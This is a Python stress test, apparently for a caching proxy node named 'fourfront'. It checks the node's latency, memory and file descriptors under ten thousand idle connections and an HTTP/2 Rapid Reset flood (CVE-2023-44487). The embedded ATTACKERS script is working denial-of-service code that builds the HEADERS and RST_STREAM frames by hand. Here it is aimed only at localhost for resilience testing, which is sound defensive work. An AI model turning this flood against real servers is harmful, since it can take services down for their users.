#!/usr/bin/env python3
"""Ten thousand idle viewers and two hundred that open and reset streams as fast as they can (CVE-2023-44487).

A viewer that means well asks over HTTPS, one request at a time, before, beside the idle connections, and beside both; its p99 may
be three times the quiet one at most. What the node holds is told at each step, and must go back when all of them are gone.
The attackers' processes come last on the machine, as they stand for other machines. Needs openssl; else the standard library.
"""

import argparse
import http.client
import os
import selectors
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from load import Failure, Origin, free_port  # noqa: E402
from tls import certificate  # noqa: E402

SITE = """
node:
  listen: 127.0.0.1:{plain}
  listen_https: 127.0.0.1:{port}
  admin: 127.0.0.1:{admin}
  cache_memory: 64MiB
  log: {{ access: false }}
  certificates: {{ load: {{ cert: {folder}/load.pem, key: {folder}/load.key }} }}
distributions:
  load: {{ origins: {{ filling: 'http://127.0.0.1:{origin}' }} }}
"""

# The viewer that means well, in a process of its own: milliseconds at p50, p99 and p99.9, and how many requests.
VIEWER = """
import gc, os, socket, ssl, sys, time
try:
    os.setpriority(os.PRIO_PROCESS, 0, -15)
except OSError:
    pass
gc.disable()
port, seconds, rate = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
anyone = ssl.create_default_context()
anyone.check_hostname, anyone.verify_mode = False, ssl.CERT_NONE
viewer = anyone.wrap_socket(socket.create_connection(("127.0.0.1", port)))
viewer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
clock, times = time.perf_counter, []
due = clock()
end = due + seconds
while due < end:
    time.sleep(max(0, due - clock()))
    began = clock()
    viewer.sendall(b"GET /hit HTTP/1.1\\r\\nHost: load.test\\r\\n\\r\\n")
    answer = b""
    while not answer.endswith(b"x\\n"):
        more = viewer.recv(65536)
        if not more:
            sys.exit("the connection was closed")
        answer += more
    if not answer.startswith(b"HTTP/1.1 200"):
        sys.exit(f"not 200: {answer[:300]}")
    times.append(clock() - began)
    due = max(due + 1 / rate, clock() - 1)
times.sort()
print(*(times[min(len(times) - 1, int(len(times) * share))] * 1e3 for share in (0.5, 0.99, 0.999)), len(times))
"""

# Attackers in a process of their own: each opens a hundred streams and resets them, again and again, for as long as it can write;
# when its connection is closed, it opens another.
ATTACKERS = r"""
import os, selectors, socket, ssl, struct, sys, time
os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
port, attackers, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
anyone = ssl.create_default_context()
anyone.check_hostname, anyone.verify_mode = False, ssl.CERT_NONE
anyone.set_alpn_protocols(["h2"])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)[:3] + b"\x04\x00" + bytes(4)
# :method GET, :scheme https, :path /miss..., :authority load.test
BLOCK = b"\x82\x87\x04\x05/miss\x41\x09load.test"

def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload

def burst(first):
    parts = []
    for stream in range(first, first + 200, 2):
        parts.append(frame(1, 5, stream, BLOCK))
        parts.append(frame(3, 0, stream, struct.pack(">I", 8)))
    return b"".join(parts)

# Made when they are first wanted, for all attackers.
BURSTS = []

class Attacker:
    def __init__(self):
        self.raw = None
        self.connect()

    def connect(self):
        if self.raw:
            self.raw.close()
        self.raw = anyone.wrap_socket(socket.socket(), do_handshake_on_connect=False, server_hostname="load.test")
        self.raw.settimeout(5)
        self.raw.connect(("127.0.0.1", port))
        self.raw.do_handshake()
        self.raw.settimeout(0)
        self.out, self.next = PREFACE, 0

    def turn(self):
        # What has come is thrown away, so that nothing waits for this side.
        try:
            while True:
                if not self.raw.recv(65536):
                    raise OSError("closed")
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        if not self.out:
            if self.next == len(BURSTS):
                BURSTS.append(burst(1 + 200 * len(BURSTS)))
            self.out = BURSTS[self.next]
            self.next += 1
            global streams
            streams += 100
        try:
            sent = self.raw.send(self.out)
            self.out = self.out[sent:]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            pass

streams = connections = 0
all_of_them = [None] * attackers
end = time.monotonic() + seconds
while time.monotonic() < end:
    for n, attacker in enumerate(all_of_them):
        try:
            if attacker is None:
                all_of_them[n] = Attacker()
                connections += 1
            else:
                attacker.turn()
        except OSError:
            try:
                attacker and attacker.raw.close()
            finally:
                all_of_them[n] = None
print(streams, connections)
"""


class Node:
    def __init__(self, program, folder, origin):
        self.port, self.plain, self.admin = free_port(), free_port(), free_port()
        file = folder / "fourfront.yaml"
        file.write_text(SITE.format(port=self.port, plain=self.plain, admin=self.admin, origin=origin, folder=folder))
        self.log = open(folder / "node.log", "wb")
        self.process = subprocess.Popen([program, "serve", "-c", str(file)], stdout=self.log, stderr=self.log)
        for _ in range(200):
            if self.process.poll() is not None:
                raise Failure(f"the node exited: {(folder / 'node.log').read_text(errors='replace')[-2000:]}")
            try:
                self.get("/hit")
                return
            except OSError:
                time.sleep(0.1)  # a port that is not open yet gives nothing to wait on
        raise Failure("the node does not answer")

    def get(self, path):
        viewer = http.client.HTTPConnection("127.0.0.1", self.plain, timeout=10)
        viewer.request("GET", path)
        viewer.getresponse().read()
        viewer.close()

    def held(self):
        """Resident MiB, file descriptors."""
        status = Path(f"/proc/{self.process.pid}/status").read_text()
        resident = next(int(line.split()[1]) for line in status.splitlines() if line.startswith("VmRSS"))
        return resident / 1024, len(os.listdir(f"/proc/{self.process.pid}/fd"))

    def viewer(self, seconds, rate):
        return subprocess.Popen(
            [sys.executable, "-c", VIEWER, str(self.port), str(seconds), str(rate)],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )

    def stop(self):
        self.process.terminate()
        self.process.wait(60)


def figures(process, seconds):
    out, err = process.communicate(timeout=seconds + 120)
    if process.returncode != 0:
        raise Failure(f"the viewer failed: {err.strip()[-500:]}")
    return [float(word) for word in out.split()]


class Idle:
    """Viewers that have asked once and keep their connections."""

    def __init__(self, port, count):
        self.sockets = [socket.create_connection(("127.0.0.1", port)) for _ in range(count)]
        self.ask()

    def ask(self):
        """Each asks once: a node closes what has been silent for 75 seconds."""
        for viewer in self.sockets:
            viewer.sendall(b"GET /hit HTTP/1.1\r\nHost: load.test\r\n\r\n")
        for viewer in self.sockets:
            answer = b""
            while not answer.endswith(b"x\n"):
                more = viewer.recv(65536)
                if not more:
                    raise Failure("an idle viewer was closed before it was idle")
                answer += more

    def closed(self):
        """How many of them the node has closed."""
        ended = 0
        with selectors.DefaultSelector() as waiting:
            for viewer in self.sockets:
                waiting.register(viewer, selectors.EVENT_READ)
            for key, _ in waiting.select(0):
                ended += key.fileobj.recv(1) == b""
        return ended

    def stop(self):
        for viewer in self.sockets:
            viewer.close()


def step(name, node, result, memory):
    resident, open_files = node.held()
    memory.append(resident)
    p50, p99, p999, count = result
    print(f"  {name:<34}{p50:8.2f}{p99:8.2f}{p999:8.2f}{int(count):9}{resident:10.0f}{open_files:9}")
    sys.stdout.flush()
    return p99


def main():
    parser = argparse.ArgumentParser(description="Idle viewers and rapid resets beside a viewer that means well.")
    parser.add_argument("--fourfront", metavar="PROGRAM", required=True, help="the release binary")
    parser.add_argument("--idle", type=int, default=10_000, help="idle connections (default: 10000)")
    parser.add_argument("--attackers", type=int, default=200, help="attackers (default: 200)")
    parser.add_argument("--seconds", type=int, default=60, help="length of the attack (default: 60)")
    parser.add_argument("--rate", type=float, default=200, help="requests per second of the viewer (default: 200)")
    options = parser.parse_args()
    origin = Origin()
    with tempfile.TemporaryDirectory(prefix="fourfront-crowd-") as temporary:
        folder = Path(temporary)
        certificate(folder)
        node = Node(options.fourfront, folder, origin.port)
        try:
            crowd(node, options)
        finally:
            node.stop()
            origin.stop()


def crowd(node, options):
    memory = []
    print(f"{'':<36}{'p50':>8}{'p99':>8}{'p99.9':>8}{'requests':>9}{'MiB':>10}{'files':>9}")
    figures(node.viewer(3, options.rate), 3)
    quiet = step("quiet", node, figures(node.viewer(15, options.rate), 15), memory)
    before = node.held()[1]
    idle = Idle(node.plain, options.idle)
    step(f"beside {options.idle} idle", node, figures(node.viewer(15, options.rate), 15), memory)
    idle.ask()
    workers = 2
    command = [sys.executable, "-c", ATTACKERS, str(node.port), str(options.attackers // workers), str(options.seconds + 2)]
    attack = [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(workers)]
    most = [0.0]
    over = threading.Event()

    def watch():
        while not over.wait(0.5):
            most[0] = max(most[0], node.held()[0])

    watcher = threading.Thread(target=watch)
    watcher.start()
    time.sleep(1)  # they connect first
    attacked = step(f"and {options.attackers} attackers", node, figures(node.viewer(options.seconds, options.rate), options.seconds), memory)
    told = [process.communicate(timeout=options.seconds + 60)[0].split() for process in attack]
    over.set()
    watcher.join()
    streams, connections = (sum(int(words[n]) for words in told) for n in (0, 1))
    print(f"  {streams} streams opened and reset over {connections} connections; at most {most[0]:.0f} MiB")
    closed = idle.closed()
    step("after the attack, beside the idle", node, figures(node.viewer(10, options.rate), 10), memory)
    idle.stop()
    for _ in range(100):
        if node.held()[1] <= before + 5:
            break
        time.sleep(0.1)  # connections that end one after another
    # The allocator gives back what was freed while it is at work.
    step("alone again", node, figures(node.viewer(30, options.rate), 30), memory)
    after = node.held()[1]
    ratio = attacked / quiet
    print(f"p99 attacked to quiet: {ratio:.2f}; idle viewers that were closed: {closed}; files before {before}, after {after}")
    if ratio > 3:
        raise Failure(f"p99 rose {ratio:.2f} times, 3 at most")
    if closed or after > before + 5:
        raise Failure("idle viewers were closed" if closed else "descriptors are left over")
    if memory[-1] > memory[0] + 150:
        raise Failure(f"{memory[-1]:.0f} MiB are held afterwards, {memory[0]:.0f} before")


if __name__ == "__main__":
    try:
        main()
    except Failure as failure:
        sys.exit(f"crowd: {failure}")
